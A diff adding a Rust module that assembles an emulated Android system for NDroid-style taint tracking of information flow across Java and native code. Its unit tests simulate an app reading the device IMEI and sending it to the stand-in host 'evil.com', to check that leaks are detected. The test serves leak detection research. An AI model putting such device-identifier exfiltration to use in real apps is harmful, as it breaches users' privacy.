@@ -1,0 +1,436 @@
+//! [`NDroidSystem`]: a complete analyzed Android world — the
+//! counterpart of "NDroid is implemented in QEMU … Executing TaintDroid
+//! in the modified QEMU, NDroid employs it to run apps and track
+//! information flow in the Java context. NDroid handles the
+//! information flows through JNI." (§VI)
+
+use crate::analysis::{AnalysisStats, NDroidAnalysis};
+use crate::baseline::{DroidScopeLikeAnalysis, TaintDroidAnalysis};
+use ndroid_arm::asm::CodeBlock;
+use ndroid_arm::{Cpu, Memory};
+use ndroid_dvm::{Dvm, DvmError, LeakEvent, Program, Taint};
+use ndroid_emu::kernel::Kernel;
+use ndroid_emu::layout;
+use ndroid_emu::os_view::{self, ProcessView, TaskWriter, Vma};
+use ndroid_emu::runtime::{Analysis, GuestRunner, HostTable, VanillaAnalysis};
+use ndroid_emu::shadow::ShadowState;
+use ndroid_emu::trace::TraceLog;
+use ndroid_jni::install_jni;
+use ndroid_libc::install_all;
+
+/// Which analysis configuration runs the app.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum Mode {
+    /// Unmodified emulator + unmodified DVM (the CF-Bench baseline).
+    Vanilla,
+    /// TaintDroid only: Java-context tracking, the conservative JNI
+    /// return policy, and nothing in the native context.
+    TaintDroid,
+    /// Full NDroid: TaintDroid plus the JNI hook engines and the
+    /// native instruction tracer.
+    NDroid,
+    /// DroidScope-like whole-system tracer (no JNI semantic shortcuts).
+    DroidScopeLike,
+}
+
+impl std::fmt::Display for Mode {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let s = match self {
+            Mode::Vanilla => "vanilla",
+            Mode::TaintDroid => "taintdroid",
+            Mode::NDroid => "ndroid",
+            Mode::DroidScopeLike => "droidscope-like",
+        };
+        write!(f, "{s}")
+    }
+}
+
+enum AnalysisBox {
+    Vanilla(VanillaAnalysis),
+    TaintDroid(TaintDroidAnalysis),
+    NDroid(Box<NDroidAnalysis>),
+    DroidScope(Box<DroidScopeLikeAnalysis>),
+}
+
+impl AnalysisBox {
+    fn as_dyn(&mut self) -> &mut dyn Analysis {
+        match self {
+            AnalysisBox::Vanilla(a) => a,
+            AnalysisBox::TaintDroid(a) => a,
+            AnalysisBox::NDroid(a) => a.as_mut(),
+            AnalysisBox::DroidScope(a) => a.as_mut(),
+        }
+    }
+}
+
+/// The assembled system: emulator, DVM, kernel, host-function table
+/// and the selected analysis.
+pub struct NDroidSystem {
+    /// Guest CPU.
+    pub cpu: Cpu,
+    /// Guest memory.
+    pub mem: Memory,
+    /// The Dalvik VM.
+    pub dvm: Dvm,
+    /// Shadow taint state.
+    pub shadow: ShadowState,
+    /// Simulated kernel.
+    pub kernel: Kernel,
+    /// Analysis trace log.
+    pub trace: TraceLog,
+    /// Guest instruction budget for the whole session.
+    pub budget: u64,
+    /// Host-function table (JNI + libc + libm).
+    pub table: HostTable,
+    /// Kernel task table (input to the OS-level view reconstructor).
+    pub tasks: TaskWriter,
+    analysis: AnalysisBox,
+    /// The configuration this system runs under.
+    pub mode: Mode,
+}
+
+impl std::fmt::Debug for NDroidSystem {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("NDroidSystem")
+            .field("mode", &self.mode)
+            .field("budget", &self.budget)
+            .finish()
+    }
+}
+
+impl NDroidSystem {
+    /// Boots a system for `program` under `mode`.
+    pub fn new(program: Program, mode: Mode) -> NDroidSystem {
+        let mut cpu = Cpu::new();
+        cpu.regs[13] = layout::NATIVE_STACK_TOP;
+        let mut dvm = Dvm::new(program);
+        dvm.taint_tracking = mode != Mode::Vanilla;
+        let analysis = match mode {
+            Mode::Vanilla => AnalysisBox::Vanilla(VanillaAnalysis),
+            Mode::TaintDroid => AnalysisBox::TaintDroid(TaintDroidAnalysis),
+            Mode::NDroid => AnalysisBox::NDroid(Box::new(NDroidAnalysis::new())),
+            Mode::DroidScopeLike => {
+                dvm.per_insn_tax = DroidScopeLikeAnalysis::JAVA_WORK;
+                AnalysisBox::DroidScope(Box::new(DroidScopeLikeAnalysis::new()))
+            }
+        };
+        let mut table = HostTable::new();
+        install_all(&mut table);
+        install_jni(&mut table);
+        let mut tasks = TaskWriter::new();
+        // The usual Android cast: zygote and system_server exist in the
+        // kernel task list alongside the app under analysis, so the
+        // OS-level view reconstructor has a realistic multi-process
+        // table to walk (§V-F).
+        tasks.upsert(ProcessView {
+            pid: 1,
+            comm: "init".into(),
+            vmas: vec![],
+        });
+        tasks.upsert(ProcessView {
+            pid: 52,
+            comm: "zygote".into(),
+            vmas: vec![Vma {
+                start: layout::LIBDVM_BASE,
+                end: layout::LIBDVM_BASE + 0x0100_0000,
+                name: "libdvm.so".into(),
+            }],
+        });
+        tasks.upsert(ProcessView {
+            pid: 1347,
+            comm: "app_process".into(),
+            vmas: vec![
+                Vma {
+                    start: layout::LIBDVM_BASE,
+                    end: layout::LIBDVM_BASE + 0x0100_0000,
+                    name: "libdvm.so".into(),
+                },
+                Vma {
+                    start: layout::LIBC_BASE,
+                    end: layout::LIBC_BASE + 0x0100_0000,
+                    name: "libc.so".into(),
+                },
+                Vma {
+                    start: layout::LIBM_BASE,
+                    end: layout::LIBM_BASE + 0x0100_0000,
+                    name: "libm.so".into(),
+                },
+            ],
+        });
+        let mut mem = Memory::new();
+        tasks.flush(&mut mem);
+        NDroidSystem {
+            cpu,
+            mem,
+            dvm,
+            shadow: ShadowState::new(),
+            kernel: Kernel::new(),
+            trace: TraceLog::new(),
+            budget: 200_000_000,
+            table,
+            tasks,
+            analysis,
+            mode,
+        }
+    }
+
+    /// Disables trace recording (for benchmarks).
+    pub fn quiet(mut self) -> NDroidSystem {
+        self.trace = TraceLog::disabled();
+        self
+    }
+
+    /// Loads a native library's machine code into guest memory and
+    /// registers its VMA with the kernel task table (which the OS-level
+    /// view reconstructor reads back, §V-F).
+    pub fn load_native(&mut self, code: &CodeBlock, lib_name: &str) {
+        self.mem.write_bytes(code.base, &code.bytes);
+        self.tasks.add_vma(
+            1347,
+            Vma {
+                start: code.base,
+                end: code.end(),
+                name: lib_name.to_string(),
+            },
+        );
+        self.tasks.flush(&mut self.mem);
+        self.trace
+            .push("load", format!("{lib_name} @ {:#x}..{:#x}", code.base, code.end()));
+    }
+
+    /// Runs the OS-level view reconstructor over raw guest memory.
+    pub fn os_view(&self) -> Vec<ProcessView> {
+        os_view::reconstruct(&self.mem)
+    }
+
+    /// Disassembles a loaded module found via the OS-level view (the
+    /// workflow NDroid's authors performed by hand on `libdvm.so`).
+    /// Returns `None` when no process maps a module with that name.
+    pub fn disassemble_module(&self, lib_name: &str) -> Option<Vec<ndroid_arm::disasm::DisasmLine>> {
+        let procs = self.os_view();
+        let vma = procs
+            .iter()
+            .flat_map(|p| p.vmas.iter())
+            .find(|v| v.name == lib_name)?;
+        Some(ndroid_arm::disasm::disassemble_arm(
+            &self.mem, vma.start, vma.end,
+        ))
+    }
+
+    /// Invokes a Java method (the app's entry point), with natives
+    /// dispatched to the emulator under the active analysis.
+    ///
+    /// # Errors
+    ///
+    /// Interpreter and guest-execution failures.
+    pub fn run_java(
+        &mut self,
+        class: &str,
+        method: &str,
+        args: &[(u32, Taint)],
+    ) -> Result<(u32, Taint), DvmError> {
+        let m = self.dvm.program.find_method_by_name(class, method)?;
+        let mut runner = GuestRunner {
+            cpu: &mut self.cpu,
+            mem: &mut self.mem,
+            shadow: &mut self.shadow,
+            kernel: &mut self.kernel,
+            trace: &mut self.trace,
+            analysis: self.analysis.as_dyn(),
+            budget: &mut self.budget,
+            table: &self.table,
+        };
+        self.dvm.invoke_with(m, args, &mut runner)
+    }
+
+    /// Runs raw native code at `entry` with AAPCS `args` (used by
+    /// pure-native Type-III workloads and the CF-Bench kernels).
+    ///
+    /// # Errors
+    ///
+    /// Guest execution failures.
+    pub fn run_native(
+        &mut self,
+        entry: u32,
+        args: &[u32],
+    ) -> Result<(u32, Taint), ndroid_emu::EmuError> {
+        let mut ctx = ndroid_emu::runtime::NativeCtx {
+            cpu: &mut self.cpu,
+            mem: &mut self.mem,
+            dvm: &mut self.dvm,
+            shadow: &mut self.shadow,
+            kernel: &mut self.kernel,
+            trace: &mut self.trace,
+            analysis: self.analysis.as_dyn(),
+            budget: &mut self.budget,
+        };
+        ndroid_emu::runtime::call_guest(&mut ctx, &self.table, entry, args, |_, _| {})
+    }
+
+    /// Every sink invocation (Java and native contexts), in the order
+    /// they were recorded within each context.
+    pub fn all_sink_events(&self) -> Vec<&LeakEvent> {
+        self.dvm
+            .events
+            .iter()
+            .chain(self.kernel.events.iter())
+            .collect()
+    }
+
+    /// The detected leaks (tainted sink hits) across both contexts.
+    pub fn leaks(&self) -> Vec<&LeakEvent> {
+        self.all_sink_events()
+            .into_iter()
+            .filter(|e| e.is_leak())
+            .collect()
+    }
+
+    /// NDroid analysis statistics (when running in NDroid mode).
+    pub fn ndroid_stats(&self) -> Option<&AnalysisStats> {
+        match &self.analysis {
+            AnalysisBox::NDroid(a) => Some(&a.stats),
+            _ => None,
+        }
+    }
+
+    /// Mutable access to the NDroid analysis (for ablation knobs).
+    pub fn ndroid_analysis_mut(&mut self) -> Option<&mut NDroidAnalysis> {
+        match &mut self.analysis {
+            AnalysisBox::NDroid(a) => Some(a.as_mut()),
+            _ => None,
+        }
+    }
+
+    /// Guest (ARM) instructions retired so far.
+    pub fn native_insns(&self) -> u64 {
+        self.cpu.insn_count
+    }
+
+    /// Dalvik bytecodes interpreted so far.
+    pub fn bytecodes(&self) -> u64 {
+        self.dvm.bytecode_executed
+    }
+
+    /// Forces a moving-GC cycle (all object addresses change) — used to
+    /// demonstrate that indirect-reference-keyed taints survive (D4).
+    pub fn force_gc(&mut self) {
+        self.dvm.gc();
+        self.trace.push("gc", format!("compaction #{}", self.dvm.heap.gc_cycles));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use ndroid_dvm::framework::install_framework;
+
+    fn boot(mode: Mode) -> NDroidSystem {
+        let mut p = Program::new();
+        install_framework(&mut p);
+        NDroidSystem::new(p, mode)
+    }
+
+    #[test]
+    fn boots_in_every_mode() {
+        for mode in [
+            Mode::Vanilla,
+            Mode::TaintDroid,
+            Mode::NDroid,
+            Mode::DroidScopeLike,
+        ] {
+            let sys = boot(mode);
+            assert_eq!(sys.mode, mode);
+            assert!(!sys.table.is_empty());
+            assert_eq!(
+                sys.dvm.taint_tracking,
+                mode != Mode::Vanilla,
+                "{mode}: DVM tracking wired to mode"
+            );
+        }
+    }
+
+    #[test]
+    fn os_view_sees_system_libraries() {
+        let sys = boot(Mode::NDroid);
+        let procs = sys.os_view();
+        assert_eq!(procs.len(), 3, "init + zygote + the app");
+        let app = procs.iter().find(|p| p.comm == "app_process").unwrap();
+        assert!(app.module_base("libdvm.so").is_some());
+        assert!(app.module_base("libc.so").is_some());
+        assert!(procs.iter().any(|p| p.comm == "zygote"));
+    }
+
+    #[test]
+    fn load_native_registers_vma() {
+        use ndroid_arm::{Assembler, Reg};
+        let mut sys = boot(Mode::NDroid);
+        let mut asm = Assembler::new(layout::NATIVE_CODE_BASE);
+        asm.bx(Reg::LR);
+        let code = asm.assemble().unwrap();
+        sys.load_native(&code, "libdemo.so");
+        let procs = sys.os_view();
+        let app = procs.iter().find(|p| p.comm == "app_process").unwrap();
+        assert_eq!(
+            app.module_base("libdemo.so"),
+            Some(layout::NATIVE_CODE_BASE)
+        );
+        assert_eq!(
+            app.module_at(layout::NATIVE_CODE_BASE)
+                .map(|v| v.name.as_str()),
+            Some("libdemo.so"),
+            "reconstructor resolves the third-party library"
+        );
+    }
+
+    #[test]
+    fn java_source_to_sink_detected_in_all_tracking_modes() {
+        for mode in [Mode::TaintDroid, Mode::NDroid, Mode::DroidScopeLike] {
+            let mut p = Program::new();
+            install_framework(&mut p);
+            let mut sys = NDroidSystem::new(p, mode);
+            let imei = sys.dvm.invoke_by_name(
+                "Landroid/telephony/TelephonyManager;",
+                "getDeviceId",
+                &[],
+                &mut ndroid_dvm::interp::NoNatives,
+            );
+            let (v, t) = imei.unwrap();
+            let dest = sys.dvm.new_string("evil.com", Taint::CLEAR);
+            sys.dvm
+                .invoke_by_name(
+                    "Ljava/net/Socket;",
+                    "send",
+                    &[(dest, Taint::CLEAR), (v, t)],
+                    &mut ndroid_dvm::interp::NoNatives,
+                )
+                .unwrap();
+            assert_eq!(sys.leaks().len(), 1, "{mode}: pure-Java leak caught");
+        }
+    }
+
+    #[test]
+    fn vanilla_mode_sees_no_taint() {
+        let mut sys = boot(Mode::Vanilla);
+        let (v, t) = sys
+            .dvm
+            .invoke_by_name(
+                "Landroid/telephony/TelephonyManager;",
+                "getDeviceId",
+                &[],
+                &mut ndroid_dvm::interp::NoNatives,
+            )
+            .unwrap();
+        assert!(t.is_clear());
+        let dest = sys.dvm.new_string("evil.com", Taint::CLEAR);
+        sys.dvm
+            .invoke_by_name(
+                "Ljava/net/Socket;",
+                "send",
+                &[(dest, Taint::CLEAR), (v, Taint::CLEAR)],
+                &mut ndroid_dvm::interp::NoNatives,
+            )
+            .unwrap();
+        assert!(sys.leaks().is_empty());
+        assert_eq!(sys.all_sink_events().len(), 1);
+    }
+}
